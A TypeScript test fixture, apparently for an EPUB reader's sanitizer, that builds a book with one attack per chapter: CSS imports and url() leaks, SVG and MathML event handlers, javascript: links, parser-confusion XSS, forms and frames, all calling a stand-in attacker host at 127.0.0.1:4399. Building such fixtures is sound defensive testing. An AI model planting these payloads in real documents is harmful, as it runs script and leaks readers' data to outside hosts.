/** One attack per chapter, so that a test can name the successful one. One file on purpose: it is a single table of attacks. */
import { bufferSource, createZipWriter, memorySink, openZip } from '@octavo/epub/zip';
import { createBook } from './create-book.ts';
import { EXTERNAL_ORIGIN, hostileAttempts, hostileStyles, hostileSvg, payload } from './hostile-book.ts';

/** The server that attacks call, as written in the books. {@link withCallsTo} replaces it by a listener. */
export const ATTACKER = 'http://127.0.0.1:4399';

export interface HostileVector {
  readonly head?: string;
  readonly body?: string;
  /** Processing instructions before the root element. */
  readonly prologue?: string;
  /** The file of the book that makes the calls, unless it is the chapter. */
  readonly file?: string;
  /** Why current Chromium makes no call, even without any defense. Other browsers do or did. */
  readonly inert?: string;
}

const style = (css: string): string => `<style>${css}</style>`;
const svg = (content: string, more = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"${more}>${content}</svg>`;
const math = (content: string, more = ''): string =>
  `<math xmlns="http://www.w3.org/1998/Math/MathML" xmlns:xlink="http://www.w3.org/1999/xlink"${more}>${content}</math>`;
const box = (css: string, more = ''): string =>
  `${style(`.box{width:9px;height:9px;${css}}`)}<div class="box"${more}>x</div>`;

/** Attempts of the hostile book that make no call, or make it through another file. */
const NOTES: Readonly<Record<string, Pick<HostileVector, 'file' | 'inert'>>> = {
  base: { inert: 'it moves only the relative URLs of other attempts' },
  'book style sheet': { file: 'hostile.css' },
  preconnect: { inert: 'it opens a connection without a request' },
  icon: { inert: 'only the icon of the page is loaded' },
  'book script': { file: 'run.js' },
  'own policy': { inert: 'a second policy can only narrow the first' },
  'link to the top frame': { inert: 'only Internet Explorer ran VBScript' },
  'SVG as object': { file: 'hostile.svg' },
  'MathML link': { inert: 'MathML Core has no links' },
};

const bookVectors = (): Readonly<Record<string, HostileVector>> => {
  const { head, body } = hostileAttempts(['refresh', 'own policy']);
  return Object.fromEntries([
    ...Object.entries(head).map(([name, text]) => [name, { head: text, ...NOTES[name] }] as const),
    ...Object.entries(body).map(([name, text]) => [name, { body: text, ...NOTES[name] }] as const),
  ]);
};

/** Every vector by name: those of the hostile book, and the ways around a sanitizer that reviewers have tried. */
export const hostileVectors: Readonly<Record<string, HostileVector>> = {
  ...bookVectors(),
  'base of the document': { head: `<base href="${ATTACKER}/"/>`, body: '<img src="a.png" alt=""/>' },
  'variable in image-set': { body: box(`--u:"${ATTACKER}/a.png";background-image:image-set(var(--u) 1x)`) },
  'registered property': {
    body: `${style(`@property --p{syntax:"&lt;url&gt;";inherits:true;initial-value:url(${ATTACKER}/a.png)}`)}${box('background-image:var(--p)')}`,
  },
  'counter symbols': {
    body: `${style(`@counter-style q{system:cyclic;symbols:url(${ATTACKER}/a.png)}li{list-style:q}`)}<ul><li>x</li></ul>`,
    inert: 'Chromium draws no pictures as counters',
  },
  'font sources': {
    body: `${style(`@font-face{font-family:q;src:src("${ATTACKER}/a.woff2"),url("${ATTACKER}/b.woff2"format("woff2"))}p{font-family:q}`)}<p>abc</p>`,
    inert: 'Chromium does not know src() and refuses the malformed url()',
  },
  'escaped imports': {
    head: style(
      `@import/**/url(//127.0.0.1:4399/a.css)layer(x);@import"\\68ttp://127.0.0.1:4399/b.css"supports(display:grid);`,
    ),
  },
  'import with conditions': {
    head: `${style(`@import url("${ATTACKER}/a.css") layer(q) supports(display:grid) screen;`)}<style media="all">@import "${ATTACKER}/b.css";</style>`,
  },
  'import behind a comment': {
    head: `<style type="text/css"><!-- @import "${ATTACKER}/a.css"; --> @charset "x";@import "${ATTACKER}/b.css";</style>${style(`&lt;!-- @import "${ATTACKER}/c.css"; --&gt;`)}`,
  },
  'nested rule': {
    body: `${style(`.a{.b{background:url("${ATTACKER}/a.png")}&amp; .c{background:URL(${ATTACKER}/b.png)}}`)}<div class="a"><i class="b">x</i><i class="c">y</i></div>`,
  },
  'attribute selector': {
    body: `${style(`a[href^="h"]{background:url(${ATTACKER}/a.png)}`)}<a href="http://x.invalid/">l</a>`,
  },
  'CDATA in a style': {
    body: `<style><![CDATA[</style><img src=x onerror="${payload('cdata')}"/>]]></style><p>x</p>`,
    inert: 'only an HTML parser ends the style sheet there',
  },
  'style that a comment closes': { body: `<style>/*</style><script>${payload('comment')}</script><style>*/</style>` },
  'style attributes': {
    body: `<p style="background:url(&quot;${ATTACKER}/a.png&quot;)">a</p><p style="background:u\\000072l(${ATTACKER}/b.png)">a</p><p style='list-style:url("${ATTACKER}/c.png");display:list-item'>b</p><p style="--x:url(${ATTACKER}/d.png);background:var(--x)">c</p>`,
  },
  'cursor and shape': {
    body: `<p style="cursor:url(${ATTACKER}/a.cur),auto;float:left;width:9px;shape-outside:url(${ATTACKER}/a.png);mask-image:url(${ATTACKER}/b.png);border-image:url(${ATTACKER}/c.png) 1">x</p>`,
  },
  'animated style': {
    body: `${style(`@keyframes q{from,to{background-image:url(${ATTACKER}/a.png)}}`)}<p style="animation:q 9s">x</p>`,
  },
  'SVG use of data': {
    body: svg(
      `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${ATTACKER}/a.png'/%3E%3C/svg%3E#x"/>`,
    ),
    inert: 'Chromium no longer loads data URLs in use elements',
  },
  'SVG filter image': {
    body: svg(
      `<filter id="f"><feImage href="${ATTACKER}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
  },
  'SVG paint': {
    body: svg(
      `<rect width="9" height="9" fill="url(${ATTACKER}/a.svg#a)" mask="url('${ATTACKER}/b.svg#a')" cursor="u\\72l(${ATTACKER}/c.cur),auto"/>`,
    ),
  },
  'SVG animated link': {
    body: svg(
      `<a><set attributeName="href" to="javascript:${payload('animated')}"/><text y="9">x</text></a><image width="9" height="9"><set attributeName="href" to="${ATTACKER}/a.png"/></image><image width="9" height="9"><animate attributeName="href" values="${ATTACKER}/b.png;${ATTACKER}/c.png" dur="9s"/></image>`,
    ),
  },
  'SVG animation events': {
    body: svg(
      `<rect width="9" height="9"><animate attributeName="x" to="1" dur="1s" onbegin="${payload('begin')}"/></rect>`,
    ),
  },
  'SVG foreign body': {
    body: svg(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${payload('foreign')}"><img src="${ATTACKER}/a.png" onerror="${payload('foreign image')}"/></body></foreignObject>`,
    ),
  },
  'SVG script files': { body: svg(`<script href="${ATTACKER}/a.js"/><script xlink:href="run.js"/>`) },
  'SVG handlers': {
    body: svg(
      `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="javascript:${payload('listener')}"/><handler type="text/javascript">${payload('handler')}</handler>`,
    ),
    inert: 'no browser implements SVG Tiny handlers',
  },
  'SVG link with two targets': {
    body: svg(`<a xlink:href="#last" href="${ATTACKER}/a"><text y="9">x</text></a>`),
  },
  'MathML links': {
    body: math(
      `<mtext><a xmlns="http://www.w3.org/1999/xhtml" href="javascript:${payload('math')}">m</a></mtext><mi xlink:href="${ATTACKER}/a">x</mi><mglyph src="${ATTACKER}/a.png" alt="x"/>`,
      ` href="javascript:${payload('math root')}"`,
    ),
  },
  'MathML annotation': {
    body: math(
      `<semantics><mi>x</mi><annotation-xml encoding="text/html"><img xmlns="http://www.w3.org/1999/xhtml" src="${ATTACKER}/a.png" onerror="${payload('annotation')}"/></annotation-xml></semantics>`,
    ),
  },
  'preloaded picture': {
    head: `<link rel="preload" as="image" imagesrcset="${ATTACKER}/a.png 1x" imagesizes="9px"/><link rel="preload stylesheet" as="style" href="${ATTACKER}/a.css"/>`,
  },
  'picture sources': {
    body: `<picture><source srcset="${ATTACKER}/a.png"/><img src="pic.gif" srcset="pic.gif 1x, ${ATTACKER}/b.png 2x" alt=""/></picture>`,
  },
  'media sources': {
    body: `<video controls="" preload="auto" poster="${ATTACKER}/a.png"><source src="${ATTACKER}/a.mp4" type="video/mp4"/><track default="" kind="captions" src="${ATTACKER}/a.vtt"/></video><audio controls="" preload="auto" src="${ATTACKER}/a.mp3"></audio>`,
  },
  'image button': { body: `<input type="image" src="${ATTACKER}/a.png" alt=""/>` },
  popover: {
    body: `<button popovertarget="q">p</button><div popover="" id="q" onbeforetoggle="${payload('toggle')}" ontoggle="${payload('toggled')}">x</div>`,
  },
  'content visibility': {
    body: `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${payload('visibility')}">x</div>`,
  },
  'animation events': {
    body: `${style('@keyframes q{}')}<div style="animation:q 1s" onanimationstart="${payload('animation')}" onwebkitanimationstart="${payload('old animation')}">x</div>`,
  },
  'base of XML': {
    body: `<p xml:base="${ATTACKER}/"><img src="a.png" alt=""/></p>`,
    inert: 'Chromium ignores xml:base',
  },
  'shadow template': {
    body: `<div><template shadowrootmode="open"><img src="${ATTACKER}/a.png" onerror="${payload('shadow')}"/></template></div>`,
    inert: 'only an HTML parser makes a shadow tree of it',
  },
  'noscript that ends early': {
    body: `<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=&quot;${payload('noscript')}&quot;&gt;">x</p></noscript>`,
    inert: 'only an HTML parser without scripts ends the element there',
  },
  'text area that ends early': {
    body: `<textarea>&lt;/textarea&gt;&lt;img src=x onerror="${payload('textarea')}"&gt;</textarea>`,
    inert: 'only an HTML parser ends the element there',
  },
  'link to the top': { body: `<a href="${ATTACKER}/top" target="_top">t</a>` },
  'link to a window with an opener': { body: `<a href="${ATTACKER}/window" target="_blank" rel="opener">o</a>` },
  'link in its own frame': { body: `<a href="${ATTACKER}/frame">o</a><a href="//127.0.0.1:4399/relative">pr</a>` },
  'area link': {
    body: `<img src="pic.gif" usemap="#m" alt="" width="9" height="9"/><map name="m"><area shape="default" href="${ATTACKER}/area" alt="x"/></map>`,
  },
  'download link': { body: `<a href="${ATTACKER}/file" download="x">d</a>` },
  'referrer and refresh': {
    body: `<meta name="referrer" content="unsafe-url"/><meta http-equiv="Refresh" content="0;url=${ATTACKER}/refresh"/>`,
  },
  'EPUB trigger': {
    body: `<epub:trigger xmlns:ev="http://www.w3.org/2001/xml-events" action="play" ref="x" ev:event="click" ev:observer="y"/><video id="x" src="${ATTACKER}/a.mp4" preload="none"></video>`,
    inert: 'no browser implements EPUB triggers',
  },
  'dialog form': {
    body: `<dialog open=""><form method="dialog" action="${ATTACKER}/form"><button autofocus="" onfocus="${payload('dialog')}">x</button></form></dialog>`,
  },
  'posted form': { body: `<form action="${ATTACKER}/form" method="post"><button>x</button></form>` },
  'form to the top': {
    body: `<form action="${ATTACKER}/form" target="_top"><button>x</button></form>`,
  },
  'frames with own policies': {
    body: `<iframe name="octavo" csp="script-src *" srcdoc="&lt;script&gt;${payload('srcdoc')}&lt;/script&gt;"></iframe><object data="hostile.svg" type="image/svg+xml"></object><embed src="blob:null/x"/>`,
    file: 'hostile.svg',
  },
  portal: { body: `<portal src="${ATTACKER}/portal"></portal>`, inert: 'Chromium has removed portals' },
  'fenced frame': {
    body: `<fencedframe src="${ATTACKER}/fenced"></fencedframe>`,
    inert: 'it loads only ad configurations',
  },
  'names that shadow properties': {
    body: `<img id="body" name="body" src="pic.gif" alt=""/><a id="location" name="location" href="#x">c</a><form id="documentElement" name="head"><input name="attributes"/></form>`,
    inert: 'it calls nothing; a script that trusts the names would break',
  },
  'entities as text': {
    body: `<p>&#x3c;script&#x3e;${payload('entity')}&#x3c;/script&#x3e;</p>`,
    inert: 'it is text; a second parser would run it',
  },
  'quotes in names': {
    body: `<img src="a%22%20onerror=%22x.png" alt=""/><a href="a&quot; onclick=&quot;x.xhtml">q</a>`,
    inert: 'it is a file name; a careless serializer would run it',
  },
  'data and blob links': {
    body: `<a href="data:text/html,&lt;script&gt;${payload('data')}&lt;/script&gt;">d</a><a href="blob:${ATTACKER}/x">b</a><a href="view-source:${ATTACKER}">v</a><a href="filesystem:${ATTACKER}/x">f</a>`,
  },
  ping: {
    body: `<a href="#last" ping="${ATTACKER}/ping" attributionsrc="${ATTACKER}/source">p</a><img src="pic.gif" attributionsrc="${ATTACKER}/picture" alt=""/>`,
  },
  'linked style sheet with an event': {
    head: `<link rel="stylesheet" href="${ATTACKER}/a.css" onerror="${payload('sheet')}" onload="${payload('sheet')}"/>`,
  },
  'style sheet instruction': { prologue: `<?xml-stylesheet href="${ATTACKER}/pi.css" type="text/css"?>` },
  transformation: { prologue: '<?xml-stylesheet type="text/xsl" href="run.xsl"?>', file: 'run.xsl' },
  'application cache': {
    body: '<p>x</p>',
    head: `<meta http-equiv="x"/>`,
    inert: 'Chromium has removed application caches',
  },
};

/** An XSLT style sheet whose output runs a script. */
const TRANSFORM = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body><img src="${ATTACKER}/transformed.png"/><script>${payload('transformed')}</script></body></html></xsl:template></xsl:stylesheet>`;

const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

export const fileNameOf = (vector: string): string => `${vector.toLowerCase().replaceAll(/[^a-z]+/g, '-')}.xhtml`;

const chapter = ({ prologue = '', head = '', body = '' }: HostileVector, name: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>${prologue}
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>${name}</title>${head}</head><body><p id="first">${name}</p>${body}<p id="last">End</p></body></html>`;

/** A book with each vector in its own chapter, and one drawing. */
export const hostileVectorsBook = (): Promise<Uint8Array> =>
  createBook('The Book of Attacks', {
    documents: [
      ...Object.entries(hostileVectors).map(([name, vector]) => ({
        href: fileNameOf(name),
        title: name,
        content: chapter(vector, name),
      })),
      { href: 'drawing.svg', mediaType: 'image/svg+xml', content: hostileSvg() },
    ],
    resources: [
      { href: 'pic.gif', mediaType: 'image/gif', content: PICTURE },
      { href: 'run.js', mediaType: 'text/javascript', content: payload('book script') },
      { href: 'run.xsl', mediaType: 'application/xslt+xml', content: TRANSFORM },
      { href: 'hostile.svg', mediaType: 'image/svg+xml', content: hostileSvg('object') },
      { href: 'hostile.css', mediaType: 'text/css', content: hostileStyles() },
    ],
  });

const TEXT = /\.(?:xhtml|html|svg|css|js|xsl|opf|ncx|xml|xht)$/;

/**
 * A copy of the book with this title, whose attacks call `listener`, with the name of their file as the first part of the
 * path.
 */
export async function withCallsTo(listener: string, book: Uint8Array, title: string): Promise<Uint8Array> {
  const { host } = new URL(listener);
  const archive = await openZip(bufferSource(book));
  const sink = memorySink();
  const writer = createZipWriter(sink);
  for (const entry of archive.entries) {
    const bytes = await archive.read(entry);
    const text = (): string =>
      new TextDecoder()
        .decode(bytes)
        .replace(/(<dc:title[^>]*>)[^<]*/, (_, tag: string) => tag + title)
        .replaceAll(EXTERNAL_ORIGIN, ATTACKER)
        .replaceAll(/127\.0\.0\.1:4399(?!\d)/g, `${host}/${entry.name.split('/').at(-1)}`);
    const content = TEXT.test(entry.name) ? text() : bytes;
    await writer.add(entry.name, content, entry.method);
  }
  await writer.finish();
  return sink.bytes();
}
